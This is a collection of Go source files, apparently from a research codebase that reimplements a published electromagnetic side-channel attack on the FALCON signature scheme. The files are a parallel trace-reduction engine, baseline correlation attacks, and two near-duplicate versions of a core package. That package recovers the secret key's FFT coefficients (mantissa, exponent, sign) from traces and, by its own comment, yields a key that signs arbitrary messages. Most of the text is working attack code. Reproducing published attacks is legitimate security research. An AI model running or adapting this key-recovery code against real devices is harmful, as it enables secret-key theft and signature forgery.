// of traces. Implementations MUST be bit-identical to calling observe on
// each observation in order (the blocked engines guarantee this because
// tiling never reorders the adds hitting any one accumulator cell).
type batchObserver interface {
	observeBatch(shard []emleak.Observation)
}

// accumulateShard feeds one shard into one accumulator through its batch
// path when it has one, else observation by observation — the single
// entry point every reduction path (serial fold, parallel tiles, fleet
// shard partials) funnels through.
func accumulateShard(c passJob, shard []emleak.Observation) {
	if b, ok := c.(batchObserver); ok {
		b.observeBatch(shard)
		return
	}
	for _, o := range shard {
		c.observe(o)
	}
}

// foldShard accumulates one shard into fresh clones and merges them into
// the jobs — the canonical per-shard step shared by every path.
func foldShard(jobs []mergeJob, shard []emleak.Observation) {
	sp := obs.StartSpan(mSweepShardSeconds)
	for _, j := range jobs {
		c := j.clone()
		accumulateShard(c, shard)
		j.merge(c)
	}
	sp.End()
}

// forEachShard drives fn over the corpus in canonical shards using a
// plain sequential iterator, retrying transient errors with the sweep
// backoff contract.
func forEachShard(src Source, fn func(shard []emleak.Observation) error) error {
	it, err := src.Iterate()
	if err != nil {
		return err
	}
	defer it.Close()
	shard := make([]emleak.Observation, 0, shardObs)
	attempts := 0
	for {
		o, err := it.Next()
		if err == io.EOF {
			if len(shard) > 0 {
				return fn(shard)
			}
			return nil
		}
		if err != nil {
			if errors.Is(err, tracestore.ErrTransient) && attempts < len(sweepBackoff) {
				time.Sleep(sweepBackoff[attempts])
				attempts++
				continue
			}
			return err
		}
		attempts = 0
		shard = append(shard, o)
		if len(shard) == shardObs {
			if err := fn(shard); err != nil {
				return err
			}
			shard = shard[:0]
		}
	}
}

// serialPass is the single-threaded reference implementation of the
// canonical reduction: shard, accumulate, fold, in corpus order. The
// differential suite compares every parallel run against it.
func serialPass(src Source, jobs []mergeJob) error {
	return forEachShard(src, func(shard []emleak.Observation) error {
		foldShard(jobs, shard)
		return nil
	})
}

// runPass drives one logical campaign pass for all jobs with the given
// worker count (≤0 meaning GOMAXPROCS). Jobs that support merging run
// through the canonical sharded reduction — serially for one worker,
// via the tiled parallel engine otherwise — so the result bits never
// depend on the worker count. Jobs that do not support merging fall back
// to a plain sequential sweep.
func runPass(src Source, jobs []passJob, workers int) error {
	if len(jobs) == 0 {
		return nil
	}
	if obs.Enabled() {
		start := time.Now()
		defer func() { observePass(src.Count(), jobs, time.Since(start)) }()
	}
	mjobs := make([]mergeJob, len(jobs))
	for i, j := range jobs {
		mj, ok := j.(mergeJob)
		if !ok {
			return sweep(src, jobs)
		}
		mjobs[i] = mj
	}
	if ds, ok := src.(*distSource); ok {
		if p, wired := newDistPass(ds, mjobs); wired {
			if err := ds.dist.RunPass(p); err != nil {
				return err
			}
			return p.incomplete()
		}
		// A job that cannot cross the wire runs against the local view.
		src = ds.Source
	}
	workers = effectiveWorkers(workers)
	if workers <= 1 {
		return serialPass(src, mjobs)
	}
	return parallelPass(src, mjobs, workers)
}

// tile is one unit of parallel work: accumulate one corpus shard into
// zero-state clones of one block of jobs.
type tile struct {
	shard int
	obs   []emleak.Observation
	block int
}

// blockFolder owns one block of main jobs and folds shard partials into
// them in strict shard-index order, parking early arrivals until their
// turn comes. The number of parked partials is bounded by the number of
// tiles in flight (prefetch depth × blocks), so memory stays bounded.
type blockFolder struct {
	mu      sync.Mutex
	jobs    []mergeJob
	next    int
	pending map[int][]mergeJob
}

func (f *blockFolder) deposit(shard int, partial []mergeJob) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.pending == nil {
		f.pending = make(map[int][]mergeJob)
	}
	f.pending[shard] = partial
	for {
		p, ok := f.pending[f.next]
		if !ok {
			return
		}
		delete(f.pending, f.next)
		for i, j := range f.jobs {
			j.merge(p[i])
		}
		f.next++
	}
}

// parallelPass is the tiled parallel engine. A prefetching reader decodes
// the corpus into canonical shards ahead of the accumulators; the
// dispatcher crosses each shard with the job blocks into tiles; workers
// accumulate tiles into fresh clones; per-block folders consume the
// partials in shard order. Block partitioning may depend on the worker
// count — each job's partials are folded in shard order regardless of
// which block (or worker) carried it, so the bits cannot.
func parallelPass(src Source, jobs []mergeJob, workers int) error {
	nBlocks := min(len(jobs), workers)
	per := (len(jobs) + nBlocks - 1) / nBlocks
	folders := make([]*blockFolder, 0, nBlocks)
	for lo := 0; lo < len(jobs); lo += per {
		folders = append(folders, &blockFolder{jobs: jobs[lo:min(lo+per, len(jobs))]})
	}

	bi, err := tracestore.IterateBatches(src, shardObs, 2*workers, sweepBackoff)
	if err != nil {
		return err
	}
	defer bi.Close()

	tiles := make(chan tile, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for t := range tiles {
				sp := obs.StartSpan(mSweepShardSeconds)
				f := folders[t.block]
				partial := make([]mergeJob, len(f.jobs))
				for i, j := range f.jobs {
					c := j.clone()
					accumulateShard(c, t.obs)
					partial[i] = c
				}
				f.deposit(t.shard, partial)
				sp.End()
			}
		}()
	}

	var readErr error
	shard := 0
	for {
		obs, err := bi.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			readErr = err
			break
		}
		for b := range folders {
			tiles <- tile{shard: shard, obs: obs, block: b}
		}
		shard++
	}
	close(tiles)
	wg.Wait()
	return readErr
}

// parallelMap drives fn once per observation, tagged with its corpus
// index, across the given number of workers. fn must be safe for
// concurrent calls on distinct indices; because the output is keyed by
// index (not by arrival), the aggregate result is identical for every
// worker count. Used by the robust preprocessing's per-trace passes.
func parallelMap(src Source, workers int, fn func(idx int, o emleak.Observation)) error {
	workers = effectiveWorkers(workers)
	if workers <= 1 {
		idx := 0
		return forEachShard(src, func(shard []emleak.Observation) error {
			for _, o := range shard {
				fn(idx, o)
				idx++
			}
			return nil
		})
	}
	bi, err := tracestore.IterateBatches(src, shardObs, 2*workers, sweepBackoff)
	if err != nil {
		return err
	}
	defer bi.Close()
	type span struct {
		base int
		obs  []emleak.Observation
	}
	spans := make(chan span, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for s := range spans {
				for i, o := range s.obs {
					fn(s.base+i, o)
				}
			}
		}()
	}
	var readErr error
	base := 0
	for {
		obs, err := bi.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			readErr = err
			break
		}
		spans <- span{base: base, obs: obs}
		base += len(obs)
	}
	close(spans)
	wg.Wait()
	return readErr
}
