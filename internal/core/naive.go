package core

import (
	"math/bits"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/fpr"
)

// NaiveMantissaAttack is the paper's baseline "straightforward attack": a
// full-width Hamming-weight CPA on the mantissa *multiplication* alone
// (the B×D partial product), scored over an explicit candidate pool.
//
// It demonstrates the failure mode the paper reports in Fig. 4(c): because
// HW(B·d) == HW(B·(2d)) exactly (a product shift preserves Hamming
// weight), the correct value and its in-range shifts tie at identical
// correlations — false positives that no number of traces can separate.
func NaiveMantissaAttack(obs []emleak.Observation, coeff int, part Part, candidates []uint64) []cpa.Guess {
	slot := part.mulSlot()
	sampleAt := emleak.SampleIndex(coeff, slot, int(fpr.OpMulLL))
	eng := cpa.NewEngine(len(candidates))
	h := make([]float64, len(candidates))
	for _, o := range obs {
		_, b := part.known(o.CFFT[coeff]).MantissaHalves()
		for i, d := range candidates {
			h[i] = float64(bits.OnesCount64(b * d))
		}
		eng.Update(h, o.Trace.Samples[sampleAt])
	}
	return cpa.Rank(eng.Corr())
}

// PruneCandidates resolves a naive-attack candidate pool for the low half
// by re-scoring each candidate (paired with the true-style high-half
// candidates) on the intermediate additions — the paper's Fig. 4(d)
// counterpart to NaiveMantissaAttack, exposed separately so experiments
// can plot before/after.
func PruneCandidates(obs []emleak.Observation, coeff int, part Part, dCandidates []uint64, cCandidates []uint64) []cpa.Guess {
	slot := part.mulSlot()
	type pair struct{ d, c uint64 }
	pairs := make([]pair, 0, len(dCandidates)*len(cCandidates))
	for _, d := range dCandidates {
		for _, c := range cCandidates {
			pairs = append(pairs, pair{d, c})
		}
	}
	ops := []fpr.Op{fpr.OpMulMid, fpr.OpMulSum1, fpr.OpMulSum2}
	engines := make([]*cpa.Engine, len(ops))
	for i := range engines {
		engines[i] = cpa.NewEngine(len(pairs))
	}
	h := make([]float64, len(pairs))
	for _, o := range obs {
		a, b := part.known(o.CFFT[coeff]).MantissaHalves()
		for ei, op := range ops {
			for i, p := range pairs {
				ll := b * p.d
				hl := a * p.d
				lh := b * p.c
				hh := a * p.c
				mid := lh + hl
				sum1 := mid + (ll >> loBits)
				sum2 := hh + (sum1 >> loBits)
				switch op {
				case fpr.OpMulMid:
					h[i] = float64(bits.OnesCount64(mid))
				case fpr.OpMulSum1:
					h[i] = float64(bits.OnesCount64(sum1))
				default:
					h[i] = float64(bits.OnesCount64(sum2))
				}
			}
			engines[ei].Update(h, o.Trace.Samples[emleak.SampleIndex(coeff, slot, int(op))])
		}
	}
	score := make([]float64, len(pairs))
	for _, e := range engines {
		for i, r := range e.Corr() {
			score[i] += r / float64(len(ops))
		}
	}
	// Collapse pair scores back to per-d candidates (max over c).
	best := make([]float64, len(dCandidates))
	for i := range best {
		best[i] = -2
	}
	for i, p := range pairs {
		_ = p
		di := i / len(cCandidates)
		if score[i] > best[di] {
			best[di] = score[i]
		}
	}
	return cpa.Rank(best)
}

// DirectAdditionAttack is the ablation the paper argues against: skipping
// the multiplication stage and attacking the intermediate addition
// directly with single-operand predictions. Because the D×B and D×A
// product bit positions do not align inside sum1, the prediction only
// captures part of the switching activity and the distinguisher weakens —
// experiments compare its winning margin against the full
// extend-and-prune.
func DirectAdditionAttack(obs []emleak.Observation, coeff int, part Part, candidates []uint64) []cpa.Guess {
	slot := part.mulSlot()
	sampleAt := emleak.SampleIndex(coeff, slot, int(fpr.OpMulSum1))
	eng := cpa.NewEngine(len(candidates))
	h := make([]float64, len(candidates))
	for _, o := range obs {
		a, _ := part.known(o.CFFT[coeff]).MantissaHalves()
		for i, d := range candidates {
			// Predict with the A×D term only; the B×C term (unknown high
			// half) and the carry are unmodeled.
			h[i] = float64(bits.OnesCount64(a * d))
		}
		eng.Update(h, o.Trace.Samples[sampleAt])
	}
	return cpa.Rank(eng.Corr())
}
