// Package core implements the paper's contribution: the differential
// electromagnetic attack on FALCON's floating-point FFT multiplication
// that recovers the secret key from known-plaintext traces.
//
// The attack is divide-and-conquer over the three fields of each 64-bit
// coefficient of FFT(f):
//
//   - the 53-bit mantissa, split as the multiplier splits it (high 28 /
//     low 25 bits), via the extend-and-prune strategy: correlation attacks
//     on the schoolbook partial products rank candidate halves ("extend",
//     which suffers shift-induced false positives), and the intermediate
//     additions that recombine the partial products disambiguate them
//     ("prune", which eliminates the false positives because addition
//     mixes in the other operand);
//   - the 11-bit exponent, from the exponent-adder micro-operations of
//     both multiplications that touch the secret value;
//   - the sign bit, from the sign-XOR micro-operations, with a fallback
//     joint attack through the complex-combine adder for coefficients
//     whose known operand never changes sign.
//
// Each secret value appears in two of the four real multiplications of
// its complex coefficient product (f.Re in c.Re·f.Re and c.Im·f.Re), so
// every phase accumulates evidence from both windows.
//
// Recovered coefficients are inverted through the (one-to-one) FFT to the
// integer polynomial f; g follows from the public key as g = h·f mod q;
// F, G are recomputed with the NTRU solver; and the resulting key signs
// arbitrary messages — the full break demonstrated by the paper.
//
// Campaigns are consumed either as in-memory slices ([]emleak.Observation)
// or as streamed tracestore.Source corpora that never fit in RAM; both
// drive the same accumulator jobs (jobs.go) and produce identical results.
package core

import (
	"errors"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
)

// Part selects which half of a complex FFT coefficient is under attack.
type Part int

// The two real values inside each complex coefficient.
const (
	PartRe Part = iota
	PartIm
)

// mulSlots returns the two multiplication windows whose *secret* operand
// is this part: f.Re appears in c.Re·f.Re and c.Im·f.Re, f.Im in
// c.Im·f.Im and c.Re·f.Im.
func (p Part) mulSlots() [2]int {
	if p == PartRe {
		return [2]int{emleak.MulReRe, emleak.MulImRe}
	}
	return [2]int{emleak.MulImIm, emleak.MulReIm}
}

// mulSlot returns the primary window (the one whose known operand matches
// the part), used by the single-window baseline attacks.
func (p Part) mulSlot() int { return p.mulSlots()[0] }

// knownFor extracts the adversary-known operand of the given window.
func knownFor(slot int, z fft.Cplx) fpr.FPR {
	if slot == emleak.MulReRe || slot == emleak.MulReIm {
		return z.Re
	}
	return z.Im
}

// known extracts the known operand of the part's primary window.
func (p Part) known(z fft.Cplx) fpr.FPR { return knownFor(p.mulSlot(), z) }

// Config tunes the attack.
type Config struct {
	// TopK candidates carried through each extend round and into the
	// prune phase (default 8).
	TopK int
	// Window is the number of mantissa bits guessed per extend round
	// (default 5).
	Window int
	// Confidence for significance reporting (default 0.9999, the paper's
	// 99.99 %).
	Confidence float64
	// EscalateBelow re-runs a value's mantissa attack with TopK×8 when
	// the prune-phase correlation lands below this (default 0.35): a weak
	// winner usually means the extend phase dropped the true prefix.
	EscalateBelow float64
	// Robust enables dirty-trace preprocessing (energy trimming,
	// cross-correlation resync, winsorized clamping) ahead of the attack
	// passes. The zero value disables it. All fields are scalars so
	// Config stays comparable for checkpoint binding.
	Robust RobustConfig
	// Workers sets the parallelism of the corpus passes (0 = one worker
	// per CPU). It is pure scheduling: the parallel engine folds partial
	// statistics in a pinned shard order, so results are bit-identical
	// for every worker count. Because of that it is excluded from
	// checkpoint binding — a campaign checkpointed at one worker count
	// resumes at any other.
	Workers int `json:"-"`
	// Kernel selects the correlation-kernel execution strategy (the zero
	// value is the scalar reference; see cpa.Kernel). Like Workers it is
	// pure execution strategy — every kernel produces bit-identical keys,
	// reports and checkpoints — so it too is excluded from checkpoint
	// binding: a campaign checkpointed under one kernel resumes under any
	// other.
	Kernel Kernel `json:"-"`
}

func (c Config) withDefaults() Config {
	if c.TopK == 0 {
		c.TopK = 8
	}
	if c.Window == 0 {
		c.Window = 5
	}
	if c.Confidence == 0 {
		c.Confidence = 0.9999
	}
	if c.EscalateBelow == 0 {
		c.EscalateBelow = 0.35
	}
	if c.TopK > maxTopK {
		c.TopK = maxTopK
	}
	return c
}

const (
	loBits = 25 // width of the mantissa low half D
	hiBits = 28 // width of the mantissa high half C (top bit implicitly 1)

	// maxTopK caps the candidate beam: the prune phase scores TopK² pairs
	// per trace, so the cap bounds the attack's worst-case cost.
	maxTopK = 64
)

// MaxBeam is the exported candidate-beam cap (the escalation and
// straggler phases run at this width).
const MaxBeam = maxTopK

// EffectiveTopK returns the mantissa candidate beam width after defaults
// are applied — what the extend/prune phases actually run with.
func (c Config) EffectiveTopK() int { return c.withDefaults().TopK }

// ValueResult reports one recovered 64-bit coefficient with per-phase
// diagnostics.
type ValueResult struct {
	Value fpr.FPR

	SignCorr float64 // correlation of the winning sign guess
	ExpCorr  float64 // correlation of the winning exponent guess
	// ExpAlternatives are exponent hypotheses statistically tied with the
	// winner (the ±2^k·m degeneracy family); RecoverKey falls back to them
	// when the assembled key fails its plausibility checks.
	ExpAlternatives []int
	PruneCorr       float64 // combined correlation of the winning mantissa pair
	RunnerUpGap     float64 // prune margin between winner and runner-up
	Escalated       bool    // the mantissa attack needed the TopK escalation
	Significant     bool    // winner above the Fisher-z confidence threshold
	TracesUsed      int
}

// errNoTraces reports an empty campaign.
var errNoTraces = errors.New("core: no traces supplied")

// magnitude is a recovered value without its sign bit.
type magnitude struct {
	biasedExp int
	expAlts   []int  // statistically tied exponent-family alternatives
	mant      uint64 // 52 stored bits
	expCorr   float64
	pruneCorr float64
	gap       float64
	escalated bool
}

// abs64 assembles the magnitude's positive FPR.
func (m magnitude) abs() fpr.FPR {
	return fpr.FPR(uint64(m.biasedExp)<<52 | m.mant)
}

// assembleMant recombines the pruned halves into the 52 stored bits
// (dropping the implicit leading one).
func assembleMant(d, c uint64) uint64 {
	return (c<<loBits | d) & ((uint64(1) << 52) - 1)
}

// attackMagnitude recovers exponent and mantissa (everything except the
// sign) of one secret value.
func attackMagnitude(obs []emleak.Observation, coeff int, part Part, cfg Config) magnitude {
	biasedExp, expCorr, expAlts := attackExponent(obs, coeff, part, cfg.Kernel)
	d, c, pruneCorr, gap := mantissa(obs, coeff, part, cfg)
	escalated := false
	if pruneCorr < cfg.EscalateBelow && cfg.TopK < maxTopK {
		big := cfg
		big.TopK = min(cfg.TopK*8, maxTopK)
		if d2, c2, p2, g2 := mantissa(obs, coeff, part, big); p2 > pruneCorr {
			d, c, pruneCorr, gap = d2, c2, p2, g2
			escalated = true
		}
	}
	return magnitude{
		biasedExp: biasedExp,
		expAlts:   expAlts,
		mant:      assembleMant(d, c),
		expCorr:   expCorr,
		pruneCorr: pruneCorr,
		gap:       gap,
		escalated: escalated,
	}
}

// mantissa runs the extend-and-prune pipeline for both halves.
func mantissa(obs []emleak.Observation, coeff int, part Part, cfg Config) (d, c uint64, corr, gap float64) {
	dCands := extendHalf(obs, coeff, part, loBits, false, cfg)
	cCands := extendHalf(obs, coeff, part, hiBits, true, cfg)
	j := newPruneJob(coeff, part, dCands, cCands, cfg.Kernel)
	feedSlice(obs, j)
	return j.result()
}

// AttackValue recovers the secret FPR at (coeff, part) from the campaign,
// using the direct sign-XOR attack for the sign bit (sufficient whenever
// the known operand's sign varies across traces; AttackCoefficient adds
// the joint fallback).
func AttackValue(obs []emleak.Observation, coeff int, part Part, cfg Config) (ValueResult, error) {
	cfg = cfg.withDefaults()
	if len(obs) == 0 {
		return ValueResult{}, errNoTraces
	}
	mag := attackMagnitude(obs, coeff, part, cfg)
	sign, signCorr := attackSign(obs, coeff, part, cfg.Kernel)
	value := fpr.FPR(uint64(sign)<<63) | mag.abs()
	thr := cpa.Threshold(cfg.Confidence, len(obs))
	return ValueResult{
		Value:           value,
		SignCorr:        signCorr,
		ExpCorr:         mag.expCorr,
		ExpAlternatives: mag.expAlts,
		PruneCorr:       mag.pruneCorr,
		RunnerUpGap:     mag.gap,
		Escalated:       mag.escalated,
		Significant:     signCorr >= thr && mag.expCorr >= thr && mag.pruneCorr >= thr,
		TracesUsed:      len(obs),
	}, nil
}

// AttackCoefficient recovers the full complex coefficient k of FFT(f):
// both magnitudes independently, then the two sign bits jointly — first
// through the per-window sign-XOR attack and, where a known operand's
// sign never varies (mean-dominated low-index coefficients of the
// uncentered hash), through the complex-combine adder whose operands
// depend on both signs.
func AttackCoefficient(obs []emleak.Observation, coeff int, cfg Config) (fft.Cplx, [2]ValueResult, error) {
	cfg = cfg.withDefaults()
	if len(obs) == 0 {
		return fft.Cplx{}, [2]ValueResult{}, errNoTraces
	}
	magRe := attackMagnitude(obs, coeff, PartRe, cfg)
	magIm := attackMagnitude(obs, coeff, PartIm, cfg)
	sRe, sIm, signCorr := attackSignJoint(obs, coeff, magRe.abs(), magIm.abs(), cfg.Kernel)
	re := fpr.FPR(uint64(sRe)<<63) | magRe.abs()
	im := fpr.FPR(uint64(sIm)<<63) | magIm.abs()
	thr := cpa.Threshold(cfg.Confidence, len(obs))
	mk := func(m magnitude, v fpr.FPR) ValueResult {
		return ValueResult{
			Value:           v,
			SignCorr:        signCorr,
			ExpCorr:         m.expCorr,
			ExpAlternatives: m.expAlts,
			PruneCorr:       m.pruneCorr,
			RunnerUpGap:     m.gap,
			Escalated:       m.escalated,
			Significant:     signCorr >= thr && m.expCorr >= thr && m.pruneCorr >= thr,
			TracesUsed:      len(obs),
		}
	}
	return fft.Cplx{Re: re, Im: im}, [2]ValueResult{mk(magRe, re), mk(magIm, im)}, nil
}

// attackSign runs the two-hypothesis DEMA on the sign-XOR micro-ops of
// both windows touching the secret value. The correct guess has a
// positive correlation peak; the wrong one is its mirror image (the
// symmetry the paper notes in Fig. 4e).
func attackSign(obs []emleak.Observation, coeff int, part Part, kern Kernel) (sign int, corr float64) {
	j := newSignJob(coeff, part, kern)
	feedSlice(obs, j)
	return j.result()
}

// attackSignJoint resolves the two sign bits of a complex coefficient
// through the four-hypothesis replay attack (see jointSignJob).
func attackSignJoint(obs []emleak.Observation, coeff int, absRe, absIm fpr.FPR, kern Kernel) (sRe, sIm int, corr float64) {
	j := newJointSignJob(coeff, absRe, absIm, kern)
	feedSlice(obs, j)
	return j.result()
}

// attackExponent guesses the 11-bit biased exponent of the secret operand
// against the exponent-adder records HW(bex_c + bey − 1023) of both
// windows.
//
// A subtlety the paper does not discuss: the Hamming weight of an adder
// output has an exact degeneracy. When the known exponent's spread across
// traces stays below 2^k, every hypothesis offset by a multiple of 2^k
// whose addition never carries into the varying low bits predicts an
// affine-shifted leakage — and Pearson correlation is affine-invariant, so
// those hypotheses tie *exactly* with the truth, at any trace count. The
// ties sit ≥ 16–32 apart in practice (hashed-message exponents span a few
// powers of two), while the feasible exponents of FFT(f) coefficients
// concentrate around 1023 + log2(√(n/2)·σ_{f,g}); exact ties are broken
// toward that magnitude prior (see expJob.result).
func attackExponent(obs []emleak.Observation, coeff int, part Part, kern Kernel) (biasedExp int, corr float64, alts []int) {
	j := newExpJob(coeff, part, kern)
	feedSlice(obs, j)
	return j.result(2 * len(obs[0].CFFT))
}

func abs(v int) int {
	if v < 0 {
		return -v
	}
	return v
}

// candidate is a partially or fully recovered mantissa half.
type candidate struct {
	value uint64
	corr  float64
}

// extendHalf runs the extend phase over an in-memory campaign (one pass
// per round; see extendState).
func extendHalf(obs []emleak.Observation, coeff int, part Part, width int, high bool, cfg Config) []candidate {
	s := newExtendState(coeff, part, width, high, cfg)
	for !s.done() {
		j := s.beginRound()
		feedSlice(obs, j)
		s.endRound()
	}
	return s.cands
}

// PrimaryWindow exposes the part's primary multiplication window index
// (emleak slot) for the experiment harness.
func (p Part) PrimaryWindow() int { return p.mulSlot() }

// KnownOperand exposes the adversary-known operand of the part's primary
// window for the experiment harness.
func (p Part) KnownOperand(z fft.Cplx) fpr.FPR { return p.known(z) }
