// Package core implements the paper's contribution: the differential
// electromagnetic attack on FALCON's floating-point FFT multiplication
// that recovers the secret key from known-plaintext traces.
//
// The attack is divide-and-conquer over the three fields of each 64-bit
// coefficient of FFT(f):
//
//   - the 53-bit mantissa, split as the multiplier splits it (high 28 /
//     low 25 bits), via the extend-and-prune strategy: correlation attacks
//     on the schoolbook partial products rank candidate halves ("extend",
//     which suffers shift-induced false positives), and the intermediate
//     additions that recombine the partial products disambiguate them
//     ("prune", which eliminates the false positives because addition
//     mixes in the other operand);
//   - the 11-bit exponent, from the exponent-adder micro-operations of
//     both multiplications that touch the secret value;
//   - the sign bit, from the sign-XOR micro-operations, with a fallback
//     joint attack through the complex-combine adder for coefficients
//     whose known operand never changes sign.
//
// Each secret value appears in two of the four real multiplications of
// its complex coefficient product (f.Re in c.Re·f.Re and c.Im·f.Re), so
// every phase accumulates evidence from both windows.
//
// Recovered coefficients are inverted through the (one-to-one) FFT to the
// integer polynomial f; g follows from the public key as g = h·f mod q;
// F, G are recomputed with the NTRU solver; and the resulting key signs
// arbitrary messages — the full break demonstrated by the paper.
package core

import (
	"errors"
	"fmt"
	"math"
	"math/bits"
	"runtime"
	"sort"
	"sync"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/ntru"
)

// Part selects which half of a complex FFT coefficient is under attack.
type Part int

// The two real values inside each complex coefficient.
const (
	PartRe Part = iota
	PartIm
)

// mulSlots returns the two multiplication windows whose *secret* operand
// is this part: f.Re appears in c.Re·f.Re and c.Im·f.Re, f.Im in
// c.Im·f.Im and c.Re·f.Im.
func (p Part) mulSlots() [2]int {
	if p == PartRe {
		return [2]int{emleak.MulReRe, emleak.MulImRe}
	}
	return [2]int{emleak.MulImIm, emleak.MulReIm}
}

// mulSlot returns the primary window (the one whose known operand matches
// the part), used by the single-window baseline attacks.
func (p Part) mulSlot() int { return p.mulSlots()[0] }

// knownFor extracts the adversary-known operand of the given window.
func knownFor(slot int, z fft.Cplx) fpr.FPR {
	if slot == emleak.MulReRe || slot == emleak.MulReIm {
		return z.Re
	}
	return z.Im
}

// known extracts the known operand of the part's primary window.
func (p Part) known(z fft.Cplx) fpr.FPR { return knownFor(p.mulSlot(), z) }

// Config tunes the attack.
type Config struct {
	// TopK candidates carried through each extend round and into the
	// prune phase (default 8).
	TopK int
	// Window is the number of mantissa bits guessed per extend round
	// (default 5).
	Window int
	// Confidence for significance reporting (default 0.9999, the paper's
	// 99.99 %).
	Confidence float64
	// EscalateBelow re-runs a value's mantissa attack with TopK×8 when
	// the prune-phase correlation lands below this (default 0.35): a weak
	// winner usually means the extend phase dropped the true prefix.
	EscalateBelow float64
}

func (c Config) withDefaults() Config {
	if c.TopK == 0 {
		c.TopK = 8
	}
	if c.Window == 0 {
		c.Window = 5
	}
	if c.Confidence == 0 {
		c.Confidence = 0.9999
	}
	if c.EscalateBelow == 0 {
		c.EscalateBelow = 0.35
	}
	if c.TopK > maxTopK {
		c.TopK = maxTopK
	}
	return c
}

const (
	loBits = 25 // width of the mantissa low half D
	hiBits = 28 // width of the mantissa high half C (top bit implicitly 1)

	// maxTopK caps the candidate beam: the prune phase scores TopK² pairs
	// per trace, so the cap bounds the attack's worst-case cost.
	maxTopK = 64
)

// ValueResult reports one recovered 64-bit coefficient with per-phase
// diagnostics.
type ValueResult struct {
	Value fpr.FPR

	SignCorr float64 // correlation of the winning sign guess
	ExpCorr  float64 // correlation of the winning exponent guess
	// ExpAlternatives are exponent hypotheses statistically tied with the
	// winner (the ±2^k·m degeneracy family); RecoverKey falls back to them
	// when the assembled key fails its plausibility checks.
	ExpAlternatives []int
	PruneCorr       float64 // combined correlation of the winning mantissa pair
	RunnerUpGap     float64 // prune margin between winner and runner-up
	Escalated       bool    // the mantissa attack needed the TopK escalation
	Significant     bool    // winner above the Fisher-z confidence threshold
	TracesUsed      int
}

// errNoTraces reports an empty campaign.
var errNoTraces = errors.New("core: no traces supplied")

// magnitude is a recovered value without its sign bit.
type magnitude struct {
	biasedExp int
	expAlts   []int  // statistically tied exponent-family alternatives
	mant      uint64 // 52 stored bits
	expCorr   float64
	pruneCorr float64
	gap       float64
	escalated bool
}

// abs64 assembles the magnitude's positive FPR.
func (m magnitude) abs() fpr.FPR {
	return fpr.FPR(uint64(m.biasedExp)<<52 | m.mant)
}

// attackMagnitude recovers exponent and mantissa (everything except the
// sign) of one secret value.
func attackMagnitude(obs []emleak.Observation, coeff int, part Part, cfg Config) magnitude {
	biasedExp, expCorr, expAlts := attackExponent(obs, coeff, part)
	d, c, pruneCorr, gap := mantissa(obs, coeff, part, cfg)
	escalated := false
	if pruneCorr < cfg.EscalateBelow && cfg.TopK < maxTopK {
		big := cfg
		big.TopK = min(cfg.TopK*8, maxTopK)
		if d2, c2, p2, g2 := mantissa(obs, coeff, part, big); p2 > pruneCorr {
			d, c, pruneCorr, gap = d2, c2, p2, g2
			escalated = true
		}
	}
	mant := (c<<loBits | d) & ((uint64(1) << 52) - 1) // drop the implicit bit
	return magnitude{
		biasedExp: biasedExp,
		expAlts:   expAlts,
		mant:      mant,
		expCorr:   expCorr,
		pruneCorr: pruneCorr,
		gap:       gap,
		escalated: escalated,
	}
}

// mantissa runs the extend-and-prune pipeline for both halves.
func mantissa(obs []emleak.Observation, coeff int, part Part, cfg Config) (d, c uint64, corr, gap float64) {
	dCands := extendHalf(obs, coeff, part, loBits, false, cfg)
	cCands := extendHalf(obs, coeff, part, hiBits, true, cfg)
	return prune(obs, coeff, part, dCands, cCands, cfg)
}

// AttackValue recovers the secret FPR at (coeff, part) from the campaign,
// using the direct sign-XOR attack for the sign bit (sufficient whenever
// the known operand's sign varies across traces; AttackCoefficient adds
// the joint fallback).
func AttackValue(obs []emleak.Observation, coeff int, part Part, cfg Config) (ValueResult, error) {
	cfg = cfg.withDefaults()
	if len(obs) == 0 {
		return ValueResult{}, errNoTraces
	}
	mag := attackMagnitude(obs, coeff, part, cfg)
	sign, signCorr := attackSign(obs, coeff, part)
	value := fpr.FPR(uint64(sign)<<63) | mag.abs()
	thr := cpa.Threshold(cfg.Confidence, len(obs))
	return ValueResult{
		Value:           value,
		SignCorr:        signCorr,
		ExpCorr:         mag.expCorr,
		ExpAlternatives: mag.expAlts,
		PruneCorr:       mag.pruneCorr,
		RunnerUpGap:     mag.gap,
		Escalated:       mag.escalated,
		Significant:     signCorr >= thr && mag.expCorr >= thr && mag.pruneCorr >= thr,
		TracesUsed:      len(obs),
	}, nil
}

// AttackCoefficient recovers the full complex coefficient k of FFT(f):
// both magnitudes independently, then the two sign bits jointly — first
// through the per-window sign-XOR attack and, where a known operand's
// sign never varies (mean-dominated low-index coefficients of the
// uncentered hash), through the complex-combine adder whose operands
// depend on both signs.
func AttackCoefficient(obs []emleak.Observation, coeff int, cfg Config) (fft.Cplx, [2]ValueResult, error) {
	cfg = cfg.withDefaults()
	if len(obs) == 0 {
		return fft.Cplx{}, [2]ValueResult{}, errNoTraces
	}
	magRe := attackMagnitude(obs, coeff, PartRe, cfg)
	magIm := attackMagnitude(obs, coeff, PartIm, cfg)
	sRe, sIm, signCorr := attackSignJoint(obs, coeff, magRe.abs(), magIm.abs())
	re := fpr.FPR(uint64(sRe)<<63) | magRe.abs()
	im := fpr.FPR(uint64(sIm)<<63) | magIm.abs()
	thr := cpa.Threshold(cfg.Confidence, len(obs))
	mk := func(m magnitude, v fpr.FPR) ValueResult {
		return ValueResult{
			Value:           v,
			SignCorr:        signCorr,
			ExpCorr:         m.expCorr,
			ExpAlternatives: m.expAlts,
			PruneCorr:       m.pruneCorr,
			RunnerUpGap:     m.gap,
			Escalated:       m.escalated,
			Significant:     signCorr >= thr && m.expCorr >= thr && m.pruneCorr >= thr,
			TracesUsed:      len(obs),
		}
	}
	return fft.Cplx{Re: re, Im: im}, [2]ValueResult{mk(magRe, re), mk(magIm, im)}, nil
}

